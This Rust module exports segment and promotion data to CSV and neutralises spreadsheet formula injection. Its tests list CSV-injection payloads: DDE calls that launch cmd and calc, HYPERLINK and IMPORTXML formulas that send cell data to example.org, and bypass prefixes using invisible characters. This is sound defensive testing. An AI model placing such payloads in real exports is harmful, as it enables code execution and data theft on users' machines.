//! The release for spreadsheets and jobs: `segments.csv` and `promotions.csv`.
//!
//! RFC 4180, UTF-8 without a byte-order mark, lines end with CR LF, text is quoted. Numbers carry a
//! dot, no grouping, no locale, and equal those of `release.json` digit for digit. Text that a
//! spreadsheet would run as a formula is disarmed with a leading apostrophe.

use csv::{QuoteStyle, Terminator, WriterBuilder};

use super::json::{WriteError, canonical};
use super::model::{Interval, PromotionFit, Release, Segment};

/// One row a segment: id, label, size and share with their intervals, three columns a feature (the
/// centroid in the feature's own unit, its lower and upper end), top and bottom categories (keys,
/// separated by a blank), clusters merged in, and the origin of the data.
///
/// # Errors
/// [`WriteError::NotFinite`] when a number is NaN or infinite.
pub fn segments_csv(release: &Release) -> Result<Vec<u8>, WriteError> {
    let release = canonical(release)?;
    let mut table = Table::new("segments.csv");
    let mut head: Vec<String> =
        ["segment_id", "label", "size", "size_lower", "size_upper", "share", "share_lower", "share_upper"]
            .map(str::to_owned)
            .into();
    for feature in &release.features {
        head.extend(["", "_lower", "_upper"].map(|end| text(&format!("{}{end}", feature.key))));
    }
    head.extend(["top_categories", "bottom_categories", "merged_clusters", "origin"].map(str::to_owned));
    table.row(&head)?;
    for segment in &release.segments {
        table.row(&segment_row(&release, segment))?;
    }
    table.finish()
}

fn segment_row(release: &Release, segment: &Segment) -> Vec<String> {
    let mut row = vec![text(&segment.id), text(&segment.label)];
    row.extend(triple(&segment.size));
    row.extend(triple(&segment.share));
    for feature in &release.features {
        let at = segment.centroid.iter().find(|value| value.feature == feature.key);
        row.extend(at.map_or_else(<[String; 3]>::default, |at| triple(&at.value)));
    }
    row.push(text(&segment.top_categories.join(" ")));
    row.push(text(&segment.bottom_categories.join(" ")));
    row.push(segment.merged.to_string());
    row.push(text(&release.origin));
    row
}

const PROMOTION_COLUMNS: [&str; 20] = [
    "segment_id",
    "promotion_id",
    "title",
    "verdict",
    "rank",
    "lift",
    "lower",
    "upper",
    "reason",
    "origin",
    "reach",
    "reach_lower",
    "reach_upper",
    "gain",
    "gain_lower",
    "gain_upper",
    "margin",
    "priority",
    "valid_from",
    "valid_until",
];

/// One row a segment and promotion with a verdict: those that fit, best first, then those that
/// plainly do not. A pair without a row has no clear answer.
///
/// # Errors
/// [`WriteError::NotFinite`] when a number is NaN or infinite.
pub fn promotions_csv(release: &Release) -> Result<Vec<u8>, WriteError> {
    let release = canonical(release)?;
    let mut table = Table::new("promotions.csv");
    table.row(&PROMOTION_COLUMNS.map(str::to_owned))?;
    for segment in &release.segments {
        for (verdict, promotions) in [("fit", &segment.promotions_fit), ("unfit", &segment.promotions_unfit)] {
            for (rank, promotion) in promotions.iter().enumerate() {
                table.row(&promotion_row(&release, segment, promotion, verdict, rank + 1))?;
            }
        }
    }
    table.finish()
}

fn promotion_row(
    release: &Release,
    segment: &Segment,
    promotion: &PromotionFit,
    verdict: &str,
    rank: usize,
) -> Vec<String> {
    let mut row = vec![text(&segment.id), text(&promotion.id), text(&promotion.title), verdict.to_owned()];
    row.push(rank.to_string());
    row.extend(triple(&promotion.lift));
    row.push(text(&promotion.reason));
    row.push(text(&release.origin));
    match &promotion.relevance {
        None => row.resize(PROMOTION_COLUMNS.len(), String::new()),
        Some(relevance) => {
            row.extend(triple(&relevance.reach));
            row.extend(triple(&relevance.gain));
            row.extend(
                [relevance.margin, relevance.priority].map(|number| number.map_or_else(String::new, |n| n.to_string())),
            );
            row.extend(
                [&relevance.valid_from, &relevance.valid_until].map(|day| text(day.as_deref().unwrap_or_default())),
            );
        }
    }
    row
}

fn triple(interval: &Interval) -> [String; 3] {
    [interval.estimate, interval.lower, interval.upper].map(|number| number.to_string())
}

/// A text cell that no spreadsheet runs: control characters become blanks, and an apostrophe stands
/// before anything that would start a formula, even behind blanks or in full-width form.
fn text(cell: &str) -> String {
    let clean: String = cell.chars().map(|c| if c.is_control() { ' ' } else { c }).collect();
    let starts_with_control = cell.chars().next().is_some_and(char::is_control);
    let first = cell.chars().find(|c| !unseen(*c));
    let formula = first.is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠'));
    if formula || starts_with_control { format!("'{clean}") } else { clean }
}

/// Characters that a spreadsheet may skip before it looks for a formula.
fn unseen(c: char) -> bool {
    c.is_whitespace()
        || c.is_control()
        || matches!(c, '\u{00AD}' | '\u{061C}' | '\u{180E}' | '\u{200B}'..='\u{200F}' | '\u{2028}'..='\u{202E}' | '\u{2060}'..='\u{206F}' | '\u{FEFF}')
}

struct Table {
    name: &'static str,
    writer: csv::Writer<Vec<u8>>,
}

impl Table {
    fn new(name: &'static str) -> Self {
        // Quoted text cannot be torn into new cells by a reader that splits at semicolons.
        let writer = WriterBuilder::new()
            .quote_style(QuoteStyle::NonNumeric)
            .terminator(Terminator::CRLF)
            .from_writer(Vec::new());
        Self { name, writer }
    }

    fn row(&mut self, cells: &[String]) -> Result<(), WriteError> {
        self.writer.write_record(cells).map_err(|_| WriteError::Table(self.name))
    }

    fn finish(self) -> Result<Vec<u8>, WriteError> {
        let name = self.name;
        self.writer.into_inner().map_err(|_| WriteError::Table(name))
    }
}

#[cfg(test)]
mod tests {
    use super::super::fixture;
    use super::*;

    fn read(bytes: &[u8]) -> Vec<Vec<String>> {
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(bytes);
        reader.records().map(|record| record.unwrap().iter().map(str::to_owned).collect()).collect()
    }

    #[test]
    fn a_row_a_segment_and_three_columns_a_feature() {
        let release = fixture::release();
        let rows = read(&segments_csv(&release).unwrap());
        assert_eq!(rows.len(), 1 + release.segments.len());
        assert_eq!(rows[0].len(), 8 + 3 * release.features.len() + 4);
        assert_eq!(rows[1][0], release.segments[0].id);
        assert_eq!(rows[1][2], canonical(&release).unwrap().segments[0].size.estimate.to_string());
        assert!(rows[1..].iter().all(|row| row.last().unwrap() == "simulated"));
    }

    #[test]
    fn every_verdict_has_its_row() {
        let release = fixture::release();
        let verdicts: usize = release.segments.iter().map(|s| s.promotions_fit.len() + s.promotions_unfit.len()).sum();
        let rows = read(&promotions_csv(&release).unwrap());
        assert_eq!(rows.len(), 1 + verdicts);
        assert!(rows[1..].iter().all(|row| row[3] == "fit" || row[3] == "unfit"));
        assert!(rows.iter().all(|row| row.len() == rows[0].len()));
        let garden = rows.iter().find(|row| row[1] == "P09").unwrap();
        assert_eq!(garden[18..], ["2026-10-01", "2026-10-31"]);
    }

    #[test]
    fn negative_numbers_are_not_quoted() {
        let mut release = fixture::release();
        release.segments[0].size.lower = -12.5;
        let table = String::from_utf8(segments_csv(&release).unwrap()).unwrap();
        assert!(table.contains(",-12.5,"), "a negative number is a number, not a formula");
    }

    #[test]
    fn lines_end_as_rfc_4180_says() {
        let table = String::from_utf8(segments_csv(&fixture::release()).unwrap()).unwrap();
        assert!(table.ends_with("\r\n"));
        assert_eq!(table.matches('\n').count(), table.matches("\r\n").count());
    }

    /// The starts that OWASP's page on CSV injection names, its examples, and known ways around them.
    const OWASP: [&str; 24] = [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1)",
        "=1+2\";=1+2",
        "=1+2'\" ;,=1+2",
        "=HYPERLINK(\"http://example.org?x=\"&A1,\"Click\")",
        "=cmd|' /C notepad'!'A1'",
        "=IMPORTXML(CONCAT(\"http://example.org?v=\", CONCATENATE(A2:E2)), \"//a/a10\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "  =1+1",
        "\u{a0}=1+1",
        "\u{3000}=1+1",
        "\u{feff}=1+1",
        "\u{200b}=1+1",
        "\u{202e}=1+1",
        "\u{1}=1+1",
    ];

    #[test]
    fn no_cell_is_a_formula() {
        for attack in OWASP {
            let mut release = fixture::release();
            release.segments[0].label = attack.to_owned();
            release.segments[0].promotions_fit[0].id = attack.to_owned();
            release.segments[0].promotions_fit[0].title = attack.to_owned();
            release.segments[0].promotions_fit[0].reason = attack.to_owned();
            let label = &read(&segments_csv(&release).unwrap())[1][1];
            let row = &read(&promotions_csv(&release).unwrap())[1];
            for cell in [label, &row[1], &row[2], &row[8]] {
                assert!(cell.starts_with('\''), "{attack:?} became {cell:?}");
            }
        }
    }

    #[test]
    fn a_cell_cannot_break_out_of_its_row() {
        for attack in ["a,b", "a\"b", "a\r\nb,c", "\";=1+1;\"", "a;=1+1", "x\u{0}y"] {
            let mut release = fixture::release();
            let rows = read(&promotions_csv(&release).unwrap()).len();
            release.segments[0].promotions_fit[0].title = attack.to_owned();
            let bytes = promotions_csv(&release).unwrap();
            assert_eq!(read(&bytes).len(), rows);
            assert_eq!(read(&bytes)[1].len(), PROMOTION_COLUMNS.len());
            assert!(bytes.iter().all(|byte| !byte.is_ascii_control() || matches!(byte, b'\r' | b'\n')));
        }
    }

    #[test]
    fn harmless_text_is_left_alone() {
        for harmless in ["Käse & Wein", "2 for 1", "a-b", "x=y", "'quoted'", "奶酪", ""] {
            assert_eq!(text(harmless), harmless);
        }
    }
}
